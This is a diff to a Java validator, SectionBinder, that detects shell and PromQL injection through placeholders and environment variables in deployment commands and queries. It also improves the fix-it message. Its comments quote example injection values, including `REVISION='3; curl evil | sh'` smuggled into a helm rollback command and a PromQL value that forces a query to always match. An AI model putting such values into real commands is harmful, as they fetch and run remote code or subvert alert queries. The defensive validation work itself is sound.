@@ -90,7 +90,9 @@ final class SectionBinder {
      * ({@link #UNQUOTED_CHARACTERS}): {@code > ${vigil.deployment.labels.threshold}} with
      * {@code 0 or vector(0)} would change what the query computes. An environment variable placed
      * into a query ({@code ${SERVICE}}, {@code ${THRESHOLD}}) is held to the rule of a label: with
-     * {@code SERVICE='x"} or vector(1) #'} the query would always answer.
+     * {@code SERVICE='x"} or vector(1) #'} the query would always answer. So is one placed into a
+     * command's text: {@code helm rollback app ${REVISION}} with {@code REVISION='3; curl evil | sh'}
+     * ran {@code curl}; the message points to {@code "$REVISION"}, which the shell reads as one word.
      */
     void valuesInCommandsAndQueries() {
         for (Item item : items.all()) {
@@ -101,9 +103,6 @@ final class SectionBinder {
             List<int[]> quoted = command || item.raw() == null ? List.of() : spans(QUOTED, item.raw());
             firstPlaced(item, placed -> {
                 Key ref = placed.ref();
-                if (ref == null && command) {
-                    return null;
-                }
                 if (ref != null && (!"labels".equals(ref.name()) || ref.sub() == null)) {
                     return command ? null : unquoted(item.raw(), placed, quoted);
                 }
@@ -115,8 +114,12 @@ final class SectionBinder {
                 String placing = "its " + placed.placeholder() + " placeholder would put " + placed.shown();
                 return command
                         ? placing + " into the command, which /bin/sh -c runs, and " + described(c.getAsInt())
-                                + " would run or redirect what follows it: leave the label out of the command, or give it a"
-                                + " value without control characters or " + SHELL_CHARACTERS
+                                + " would run or redirect what follows it: " + (ref == null
+                                        ? "let the shell read the variable instead, \"$" + placed.opening().substring(2).trim()
+                                                + "\" in double quotes in place of " + placed.placeholder() + " (one word, none of it run),"
+                                                + " or give it"
+                                        : "leave the label out of the command, or give it")
+                                + " a value without control characters or " + SHELL_CHARACTERS
                         : placing + " into the PromQL query, where " + described(c.getAsInt()) + " would end or escape a"
                                 + " quoted value and change what the query selects: leave " + placed.what() + " out of the"
                                 + " query, or give it a value without control characters or " + QUERY_CHARACTERS;
